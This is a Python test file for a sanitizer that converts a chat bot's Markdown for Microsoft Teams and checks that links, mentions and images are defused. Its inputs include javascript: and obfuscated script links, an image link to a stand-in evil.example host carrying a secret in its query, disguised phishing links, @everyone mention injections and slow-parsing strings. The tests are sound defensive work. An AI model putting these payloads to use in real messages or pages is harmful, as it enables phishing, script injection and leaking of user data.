"""A model's Markdown as Teams shows it: the same words, nothing that acts by itself, code as it was."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from bot.channels.teams_inline import web_address
from bot.channels.teams_text import dialect
from bot.reply import fence_after, split, utf16_size

PIECES = st.sampled_from(
    [
        "# Title",
        "## `code` **bold** ##",
        "Setext\n======",
        "text\n---",
        "***",
        "- item",
        "  - nested",
        "    - deep",
        "1. one",
        "- [ ] open",
        "> said",
        "| a | b |\n|---|:-:|\n| 1 | [x](https://a.b) |\n| `c` | |",
        "|-|\n|-|",
        "```",
        "```python",
        "````",
        "~~~",
        "    ```sh\n    code\n    ```",
        "    indented <b>",
        "\tindented",
        "<at>everyone</at>",
        '<AT id="0">x</AT>',
        "<a<at>t>x</at>",
        "`<at>x</at>`",
        "@everyone @team",
        "![i](https://e.x/?q=s)",
        "[![i](https://e.x/i)](https://e.x)",
        "![i][r] [t][r] [r] [r][]",
        "[r]: https://ref.example/a 'title'",
        "[r]:\nhttps://ref.example",
        "[1]: https://one.example",
        "[click](javascript:alert(1))",
        "[x](<java&#115;cript:a>)",
        "[https://bank.example](https://evil.example)",
        "[a](https://u@evil.example/(x)_[y])",
        "[a\nb](https://a.b)",
        "<https://auto.example/?a=b>",
        "a < b && c > d &lt;",
        "a<br>b",
        "\\[a\\](b) \\<at> \\`",
        "``` a ` b",
        "word",
        "",
        "",
    ]
)
SIGNS = st.text(alphabet="ab `~*_#[]()!<>@|:-=\\&;.\n\t1/", max_size=30)
ANSWERS = st.lists(st.one_of(PIECES, SIGNS), max_size=12).map("\n".join)
slow = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow], max_examples=300)


def outside_code(text: str) -> list[str]:
    """The lines that are not in a fenced block."""
    fence, lines = "", []
    for line in text.split("\n"):
        before, fence = fence, fence_after(line, fence)
        if not before and not fence:
            lines.append(line)
    return lines


def code_of(text: str) -> list[str]:
    """What stands in fenced blocks, a text each."""
    fence, blocks = "", []
    for line in text.split("\n"):
        before, fence = fence, fence_after(line, fence)
        if fence and not before:
            blocks.append([])
        elif fence:
            blocks[-1].append(line)
    return ["\n".join(block) for block in blocks]


# -- laws ---------------------------------------------------------------------------------------------------


@slow
@given(text=ANSWERS, extended=st.booleans())
def test_said_of_its_own_result_it_changes_nothing(text: str, extended: bool):
    once = dialect(text, extended=extended)
    assert dialect(once, extended=extended) == once


@slow
@given(text=ANSWERS, extended=st.booleans())
def test_outside_code_nothing_is_left_that_acts(text: str, extended: bool):
    for line in outside_code(dialect(text, extended=extended)):
        assert not re.search(r"</?at\b", line, re.IGNORECASE)
        bare = re.sub(r"(?<!`)(`+)(?!`).+?(?<!`)\1(?!`)", "", line)
        assert "<" not in bare
        assert "![" not in bare
        for target in re.findall(r"\]\(([^)]*)\)", bare):
            assert web_address(target) == target
        assert not re.search(r"(?<!\w)@everyone", bare)


@slow
@given(text=ANSWERS, extended=st.booleans(), limit=st.integers(200, 1_000))
def test_every_part_fits_and_no_part_leaves_code_open(text: str, extended: bool, limit: int):
    for part in split(dialect(text, extended=extended), limit):
        assert utf16_size(part) <= limit
        fence = ""
        for line in part.split("\n"):
            fence = fence_after(line, fence)
        assert fence == ""


WITHOUT_FENCES = ANSWERS.filter(lambda text: "```" not in text and "~~~" not in text)
CODE = st.lists(st.text(alphabet="ab <>@[]()!|#*-`~\t\\&;", max_size=20), min_size=1, max_size=6)


@slow
@given(code=CODE, before=WITHOUT_FENCES, marks=st.sampled_from(["```", "````", "~~~", "```py"]), extended=st.booleans())
@example(code=["<at>x</at>", "| a |", "|---|", "", "", "# no title"], before="- item", marks="~~~", extended=False)
def test_code_is_the_same_to_the_byte(code: list[str], before: str, marks: str, extended: bool):
    fence = marks.removesuffix("py")
    if any(line.lstrip(" ").startswith(fence) for line in code):
        return
    text = "\n".join([before, marks, *code, fence, "after"])
    assert code_of(dialect(text, extended=extended))[-1] == "\n".join(code)


@slow
@given(words=st.lists(st.text(alphabet="abc", min_size=1, max_size=8), min_size=1, max_size=30))
def test_plain_words_are_left_alone(words: list[str]):
    text = " ".join(words)
    assert dialect(text) == dialect(text, extended=True) == text


# -- one by one ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("# Title", "**Title**"),
        ("### A **bold** `x**y` one ###\ntext", "**A bold `x**y` one**\n\ntext"),
        ("text\n## Next", "text\n\n**Next**"),
        ("> # quoted", "> **quoted**"),
        ("Title\n=====\ntext", "**Title**\n\ntext"),
        ("a\n\n---\n\nb", "a\n\nb"),
        ("a\n***\nb", "a\n\nb"),
        ("- [ ] open\n- [x] done", "- \u2610 open\n- \u2611 done"),
        ("- a\n  - b\n    - c", "- a\n  - b\n    - c"),
        ("| Item | Price |\n|:--|--:|\n| Tea [1] | 3 |\n| a\\|b | |", "- **Tea [1]** \u00b7 Price: 3\n- **a|b**"),
        ("so:\n| A | B |\n|---|---|\n| 1<br>2 | 3 |\nend", "so:\n\n- **1; 2** \u00b7 B: 3\n\nend"),
        ("| A | B |\n|---|---|", "**A \u00b7 B**"),
        ("not | a table", "not | a table"),
        ("a\n\n    x < y\n    z\n\nb", "a\n\n```\nx < y\nz\n```\n\nb"),
        ("1. do\n    ```sh\n    ls -l\n    ```", "1. do\n```sh\nls -l\n```"),
        ("~~~py\nx\n~~~", "```py\nx\n```"),
        ("```py\nx", "```py\nx\n```"),
    ],
)
def test_what_only_some_clients_show_is_said_otherwise(written: str, shown: str):
    assert dialect(written) == shown


@pytest.mark.parametrize(
    "text", ["# Title", "a\n\n---\n\nb", "- [ ] open", "| A | B |\n|---|---|\n| 1 | 2 |", "```py\nx\n```"]
)
def test_the_extended_dialect_leaves_them_to_the_client(text: str):
    assert dialect(text, extended=True) == text


SAME_IN_BOTH = [
    ("<at>Ann</at> look", "Ann look"),
    ("<AT id='0'>Ann</AT>", "Ann"),
    ("<a<at>t>Ann</at>", "&lt;at>Ann"),
    ("@everyone, mail a@team.example", "@\u200beveryone, mail a@team.example"),
    ("`<at>Ann</at>`", "`<\u200bat>Ann<\u200b/at>`"),
    ("a < b <b>c</b> &lt;d", "a &lt; b &lt;b>c&lt;/b> &lt;d"),
    ("`a < b`", "`a < b`"),
    ("<https://a.example/x>", "https://a.example/x"),
    ("![cat](https://evil.example/?q=secret)", "[cat](https://evil.example/?q=secret)"),
    ("![](https://evil.example/)", "[image](https://evil.example/)"),
    ("![cat][c]\n\n[c]: https://evil.example/", "[cat](https://evil.example/)\n"),
    ("![cat](data:image/png;base64,AAAA)", "cat"),
    ("[![b](https://i.example/i)](https://a.example/p)", "[b](https://a.example/p)"),
    ("![a\nb](https://evil.example)", "! [a\nb] (https://evil.example)"),
    ("[x](javascript:alert(1)) [y](data:text/html,z) [z](<vbscript:a>) [w](/path)", "x y z w"),
    ("[x](JaVaScRiPt:a) [y](java&#115;cript:a) [z](javascript\\:a)", "x y z"),
    ("[x]( javascript:a )", "x"),
    ("[a](https://a.example/Foo_(bar))", "[a](https://a.example/Foo_%28bar%29)"),
    ('[a](https://a.example "title")', "[a](https://a.example)"),
    ("[a](https://bank.example@evil.example/)", "[a](https://evil.example/)"),
    ("[`code`](https://a.example)", "[`code`](https://a.example)"),
    ("[mail](mailto:a@b.example)", "[mail](mailto:a@b.example)"),
    ("[t][R] and [r]\n\n[r]: <https://a.example> 'x'", "[t](https://a.example) and [r](https://a.example)\n"),
    ("so [1].\n\n[1]: https://a.example", "so [1].\n\n[1] https://a.example"),
    ("[1]: Handbook, page 3", "[1] Handbook, page 3"),
    ("\u202etxt", "txt"),
]


@pytest.mark.parametrize("extended", [False, True])
@pytest.mark.parametrize(("written", "shown"), SAME_IN_BOTH)
def test_what_acts_is_taken_apart(written: str, shown: str, extended: bool):
    assert dialect(written, extended=extended) == shown


EVIL = "https://evil.example/a"


@pytest.mark.parametrize(
    "words",
    [
        "https://bank.example",
        "bank.example",
        "www.bank.example/login",
        "**https://bank.example**",
        "b\u200bank.example",
        "bank\uff0eexample",
        "go to bank.example now",
        "https://evil.example.bank.example",
        "https://evil.example/another",
        "help@bank.example",
        "long " * 100,
    ],
)
def test_a_link_that_says_another_place_is_shown_with_its_own(words: str):
    shown = dialect(f"[{words}]({EVIL})")
    assert shown == f"{words.strip()} ([{EVIL}]({EVIL}))"


@pytest.mark.parametrize(
    ("words", "target"),
    [
        ("the handbook", EVIL),
        ("https://evil.example", EVIL),
        ("evil.example/a", EVIL),
        ("https://www.evil.example/a/", EVIL),
        ("main.py", "https://git.example/x/main.py"),
        ("report.pdf", "https://files.example/7"),
        ("a@b.example", "mailto:a@b.example"),
        ("Version 1.2", EVIL),
    ],
)
def test_a_link_that_says_where_it_leads_is_left_alone(words: str, target: str):
    assert dialect(f"[{words}]({target})") == f"[{words}]({target})"


@pytest.mark.parametrize(
    "hostile", ["[", "`", "` ``", "[a](", "|-", "<at", "[]", "a@", "[a@a](https://a/", "\n- [", "\n>"]
)
def test_no_text_takes_long(hostile: str):
    began = time.perf_counter()
    dialect(hostile * (40_000 // len(hostile)))
    assert time.perf_counter() - began < 5
